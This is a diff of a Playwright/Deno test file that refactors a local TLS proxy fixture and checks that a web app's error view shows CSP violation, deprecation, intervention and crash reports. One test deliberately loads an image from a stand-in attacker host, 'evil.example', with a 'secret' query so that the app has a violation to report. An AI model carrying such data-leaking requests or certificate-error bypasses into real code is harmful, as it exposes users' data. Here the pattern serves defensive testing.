@@ -2,7 +2,8 @@
 import { createHash, X509Certificate } from "node:crypto";
 import { startServer } from "../../tools/run/server_process.ts";
 import { CHROMIUM_ARGS } from "../../tools/test/find_chromium.ts";
-import { expect, listRows, test } from "./fixtures.ts";
+import { expect, listRows, test as base } from "./fixtures.ts";
+import { crash } from "./marks.ts";
 import { openPage } from "./signals.ts";
 import { openView } from "./views.ts";
 
@@ -14,55 +15,63 @@ const fingerprint = createHash("sha256")
   .update(new X509Certificate(cert).publicKey.export({ type: "spki", format: "der" }))
   .digest("base64");
 
-test.use({
-  launchOptions: async ({ chromium }, provide) => {
+const test = base.extend({
+  launchOptions: [async ({ chromium }, provide) => {
     await provide({
       executablePath: chromium,
       args: [
         ...CHROMIUM_ARGS,
-        // Without it the Reporting API waits for a minute. It sends nothing where a certificate's errors are ignored, so
-        // this one is trusted.
+        // Without it the Reporting API waits for a minute.
         "--short-reporting-delay",
+        // The Reporting API sends nothing where certificate errors are ignored, so this one is trusted.
         `--ignore-certificate-errors-spki-list=${fingerprint}`,
       ],
     });
-  },
+  }, { scope: "worker" }],
 });
 
 /** Ends TLS in front of a server. */
 function startTlsProxy() {
   const listener = Deno.listenTls({ hostname: "127.0.0.1", port: 0, cert, key: pem("key") });
-  const { port } = listener.addr;
-  let target = 0;
-  const pass = async (client: Deno.Conn) => {
-    // Chromium may send a late report when the test has already stopped the server.
-    const server = await Deno.connect({ hostname: "127.0.0.1", port: target }).catch(() =>
-      undefined
-    );
+  let serverPort = 0;
+  const connections = new Set<Promise<unknown>>();
+  const forward = async (client: Deno.Conn) => {
+    // Chromium may send a late report when the server has already stopped.
+    const server = await Deno.connect({ hostname: "127.0.0.1", port: serverPort })
+      .catch(() => undefined);
     if (server === undefined) return client.close();
-    const pipes = [
+    // When one side closes, both pipes end.
+    await Promise.allSettled([
       client.readable.pipeTo(server.writable),
       server.readable.pipeTo(client.writable),
-    ];
-    // A side that breaks off ends the other.
-    await Promise.allSettled(pipes);
+    ]);
   };
   const accepting = (async () => {
-    for (;;) {
-      const client = await listener.accept().catch(() => undefined);
-      if (client === undefined) return;
-      void pass(client);
+    for await (const client of listener) {
+      const connection = forward(client).finally(() => connections.delete(connection));
+      connections.add(connection);
     }
   })();
   return {
-    origin: `https://localhost:${port}`,
-    to: (serverPort: number) => void (target = serverPort),
+    origin: `https://localhost:${listener.addr.port}`,
+    forwardTo: (port: number) => void (serverPort = port),
     async [Symbol.asyncDispose]() {
       listener.close();
       await accepting;
+      await Promise.all(connections);
     },
   };
 }
+
+/** A server behind a TLS proxy. */
+const overHttps = test.extend({
+  server: async ({ chromium: _chromium }, provide) => {
+    await using proxy = startTlsProxy();
+    await using server = await startServer({ env: { PUBLIC_ORIGIN: proxy.origin } });
+    proxy.forwardTo(server.port);
+    await provide({ ...server, origin: proxy.origin });
+  },
+});
 
 test("image of another site, 30 times, over http → one envelope, an error in the console", async ({ page, server, sent, watch }) => {
   watch.allow("https://evil.example/");
@@ -90,33 +99,28 @@ test("image of another site, 30 times, over http → one envelope, an error in t
   });
 });
 
-test("violation, deprecation, intervention, crash over https → errors and logs in the console", async ({ page: closing, context, watch }) => {
-  watch.allow("https://evil.example/", "Blocked call to navigator.vibrate");
-  await using proxy = startTlsProxy();
-  await using server = await startServer({ env: { PUBLIC_ORIGIN: proxy.origin } });
-  proxy.to(server.port);
+overHttps(
+  "violation, deprecation, intervention, crash over https → errors and logs in the console",
+  async ({ page: reporting, context, watch }) => {
+    watch.allow("https://evil.example/", "Blocked call to navigator.vibrate");
+    // Not by `evaluate`, which counts as an action of the user: that permits vibrating.
+    await reporting.addInitScript(() => addEventListener("load", () => navigator.vibrate(1)));
+    await openPage(reporting, "/?secret=1");
+    await reporting.evaluate(() => {
+      new Image().src = "https://evil.example/pixel.png?secret";
+      const request = new XMLHttpRequest();
+      request.open("GET", "/monitoring?secret", false);
+      request.send();
+    });
+    const page = await context.newPage();
+    await page.goto("/#/errors");
+    const row = (text: string) => page.getByRole("row").filter({ hasText: text });
+    await expect(row("img-src https://evil.example")).toBeVisible();
+    await crash(reporting);
+    await expect(row("The page crashed")).toBeVisible();
 
-  // Not by `evaluate`, which counts as an action of the user: that permits vibrating.
-  await closing.addInitScript(() => addEventListener("load", () => navigator.vibrate(1)));
-  await openPage(closing, `${proxy.origin}/?secret=1`);
-  await closing.evaluate(() => {
-    new Image().src = "https://evil.example/pixel.png?secret";
-    const request = new XMLHttpRequest();
-    request.open("GET", "/monitoring?secret", false);
-    request.send();
-  });
-  const page = await context.newPage();
-  await page.goto(`${proxy.origin}/#/errors`);
-  const row = (text: string) => page.getByRole("row").filter({ hasText: text });
-  await expect(row("img-src https://evil.example")).toBeVisible();
-  const debug = await context.newCDPSession(closing);
-  const crashed = closing.waitForEvent("crash");
-  // Never answered.
-  void debug.send("Page.crash").catch(() => {});
-  await crashed;
-  await expect(row("The page crashed")).toBeVisible();
-
-  await openView(page, "Logs");
-  await expect(row("Deprecation: Synchronous `XMLHttpRequest`")).toBeVisible();
-  await expect(row("Intervention: Blocked call to navigator.vibrate")).toBeVisible();
-});
+    await openView(page, "Logs");
+    await expect(row("Deprecation: Synchronous `XMLHttpRequest`")).toBeVisible();
+    await expect(row("Intervention: Blocked call to navigator.vibrate")).toBeVisible();
+  },
+);
